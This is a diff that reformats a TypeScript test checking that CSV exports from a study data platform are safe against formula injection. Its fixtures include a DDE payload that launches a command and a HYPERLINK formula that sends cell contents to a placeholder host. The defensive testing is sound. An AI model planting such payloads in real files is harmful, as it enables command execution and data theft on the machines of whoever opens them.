@@ -21,14 +21,23 @@ import { userId } from "./helpers/pipeline";
 import { callAs, startFileStore, stopFileStore, uploadChecked } from "./helpers/security-world";
 
 const SLUG = `sec-export-${process.pid}`;
-const HOSTILE_NOTES = ["=1+1", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=2+2", '=HYPERLINK("http://example.invalid","x")'];
+const HOSTILE_NOTES = [
+  "=1+1",
+  "+SUM(1,2)",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(A1:A2)",
+  "\t=1+1",
+  "\r=2+2",
+  '=HYPERLINK("http://example.invalid","x")',
+];
 const HOSTILE_DESCRIPTION = '=HYPERLINK("http://example.invalid/?leak="&A1,"notes")';
 const FORMULA_START = /^[=+\-@\t\r]/;
 const isNumber = (s: string) => /^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$/.test(s);
 
 /** RFC 4180 writer for the test's input file (quotes only where the format needs them). */
 function csvOf(header: readonly string[], rows: Record<string, string | number>[]): string {
-  const q = (v: string | number) => (typeof v === "string" && /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : String(v));
+  const q = (v: string | number) =>
+    typeof v === "string" && /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : String(v);
   return [header.join(","), ...rows.map((r) => header.map((h) => q(r[h] ?? "")).join(","))].join("\n") + "\n";
 }
 
@@ -40,7 +49,9 @@ function parse(text: string): string[][] {
 
 /** No cell starts like a formula unless it is a plain number. */
 function expectNoFormulaCells(rows: string[][]) {
-  for (const row of rows) for (const cell of row) if (FORMULA_START.test(cell)) expect(isNumber(cell), `cell ${JSON.stringify(cell)}`).toBe(true);
+  for (const row of rows)
+    for (const cell of row)
+      if (FORMULA_START.test(cell)) expect(isNumber(cell), `cell ${JSON.stringify(cell)}`).toBe(true);
 }
 
 const HEADER = Object.keys(heatPumpRows("X", 1, 1)[0]!);
@@ -50,13 +61,27 @@ beforeAll(async () => {
   await startFileStore();
   const db = getDb();
   const plan = structuredClone(HEAT_PUMP_PLAN);
-  plan.columns = plan.columns.map((c) => (c.name === "installer_note" ? { ...c, description: HOSTILE_DESCRIPTION } : c));
+  plan.columns = plan.columns.map((c) =>
+    c.name === "installer_note" ? { ...c, description: HOSTILE_DESCRIPTION } : c,
+  );
   const parsed = parsePlan(plan);
   if (!parsed.ok) throw new Error("plan invalid");
   const lead = await userId("lead@lowmoor.test");
-  const [s] = await db.insert(studies).values({ slug: SLUG, title: `Export safety ${SLUG}`, currentPlanVersion: 1, createdById: lead }).$returningId();
-  await db.insert(dataPlans).values({ studyId: s!.id, version: 1, plan: parsed.plan, planHash: await hashPlan(parsed.plan), createdById: lead });
-  const [o] = await db.select({ id: organisations.id }).from(organisations).where(eq(organisations.slug, "greenhearth"));
+  const [s] = await db
+    .insert(studies)
+    .values({ slug: SLUG, title: `Export safety ${SLUG}`, currentPlanVersion: 1, createdById: lead })
+    .$returningId();
+  await db.insert(dataPlans).values({
+    studyId: s!.id,
+    version: 1,
+    plan: parsed.plan,
+    planHash: await hashPlan(parsed.plan),
+    createdById: lead,
+  });
+  const [o] = await db
+    .select({ id: organisations.id })
+    .from(organisations)
+    .where(eq(organisations.slug, "greenhearth"));
   await db.insert(studyProviders).values({ studyId: s!.id, organisationId: o!.id });
   await db.insert(studyAnalysts).values({ studyId: s!.id, userId: await userId("analyst2@lowmoor.test") });
 
@@ -65,9 +90,14 @@ beforeAll(async () => {
   HOSTILE_NOTES.forEach((n, i) => (rowsA[i]!.installer_note = n));
   rowsA[10]!.annual_kwh_saved = "-3.2";
   rowsA[11]!.annual_kwh_saved = -999;
-  const a = await uploadChecked("installer@greenhearth.test", { study: SLUG, file: new File([csvOf(HEADER, rowsA)], "notes.csv", { type: "text/csv" }) });
+  const a = await uploadChecked("installer@greenhearth.test", {
+    study: SLUG,
+    file: new File([csvOf(HEADER, rowsA)], "notes.csv", { type: "text/csv" }),
+  });
   expect(a.report?.status).not.toBe("unreadable");
-  const decided = await decideVersion(await userId("analyst2@lowmoor.test"), a.batchId, 1, { decision: "accept" });
+  const decided = await decideVersion(await userId("analyst2@lowmoor.test"), a.batchId, 1, {
+    decision: "accept",
+  });
   expect(decided.ok, JSON.stringify(decided)).toBe(true);
 
   // batch B: formula-looking levels, so the rows carry findings and are listed at fault
@@ -76,7 +106,10 @@ beforeAll(async () => {
   rowsB[4]!.insulation_band = "@SUM(1+1)";
   rowsB[4]!.installer_note = "+1+1";
   rowsB[5]!.annual_kwh_saved = -4000; // below the plan's minimum of -3000: a finding, and a number
-  const b = await uploadChecked("installer@greenhearth.test", { study: SLUG, file: new File([csvOf(HEADER, rowsB)], "levels.csv", { type: "text/csv" }) });
+  const b = await uploadChecked("installer@greenhearth.test", {
+    study: SLUG,
+    file: new File([csvOf(HEADER, rowsB)], "levels.csv", { type: "text/csv" }),
+  });
   faulty = { batchId: b.batchId, version: 1 };
 });
 
@@ -94,9 +127,16 @@ afterAll(async () => {
 describe("CSV exports are formula-safe", () => {
   it("rows at fault: hostile levels and notes behind an apostrophe, the out-of-range number as it was", async () => {
     const { batchId, version } = faulty;
-    const res = await callAs(rowsAtFaultRoute, `/api/v1/batches/${batchId}/versions/${version}/rows-at-fault`, { id: batchId, version: String(version) }, "installer@greenhearth.test");
+    const res = await callAs(
+      rowsAtFaultRoute,
+      `/api/v1/batches/${batchId}/versions/${version}/rows-at-fault`,
+      { id: batchId, version: String(version) },
+      "installer@greenhearth.test",
+    );
     expect(res.status).toBe(200);
-    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="levels-v1-rows-at-fault\.csv"; filename\*=UTF-8''/);
+    expect(res.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="levels-v1-rows-at-fault\.csv"; filename\*=UTF-8''/,
+    );
     const rows = parse(await res.text());
     const head = rows[0]!;
     const byRef = new Map(rows.slice(1).map((r) => [r[head.indexOf("property_ref")], r]));
@@ -111,7 +151,9 @@ describe("CSV exports are formula-safe", () => {
   it("pool rows: every hostile note behind an apostrophe, -3.2 and -999 unchanged", async () => {
     const res = await callAs(poolRowsRoute, `/api/v1/pool/${SLUG}/rows`, { slug: SLUG }, "lead@lowmoor.test");
     expect(res.status).toBe(200);
-    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="sec-export-\d+-pool-rows-\d{4}-\d{2}-\d{2}\.csv"/);
+    expect(res.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="sec-export-\d+-pool-rows-\d{4}-\d{2}-\d{2}\.csv"/,
+    );
     const rows = parse(await res.text());
     const head = rows[0]!;
     expect(rows).toHaveLength(261);
@@ -124,7 +166,12 @@ describe("CSV exports are formula-safe", () => {
   });
 
   it("data dictionary CSV: a formula in the plan's description comes back as text", async () => {
-    const res = await callAs(dictionaryRoute, `/api/v1/pool/${SLUG}/dictionary?format=csv`, { slug: SLUG }, "analyst2@lowmoor.test");
+    const res = await callAs(
+      dictionaryRoute,
+      `/api/v1/pool/${SLUG}/dictionary?format=csv`,
+      { slug: SLUG },
+      "analyst2@lowmoor.test",
+    );
     expect(res.status).toBe(200);
     const rows = parse(await res.text());
     const head = rows[0]!;
